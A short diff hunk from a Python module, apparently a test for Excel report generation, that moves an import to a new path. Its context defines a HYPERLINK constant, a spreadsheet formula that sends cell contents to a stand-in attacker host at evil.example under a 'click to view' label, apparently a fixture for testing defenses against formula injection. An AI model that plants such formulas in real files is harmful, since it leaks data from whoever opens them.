@@ -14,7 +14,7 @@ from openpyxl import load_workbook
 from config import Config, Unit
 from fupin.demo import labor as demo_labor
 from fupin.demo.reports import REMARK, value_column, write_filled_report
-from tasks.templates import FIRST_DATA_ROW, header_texts
+from tasks.report.templates import FIRST_DATA_ROW, header_texts
 
 MONTH = "2020-09"
 HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看")'
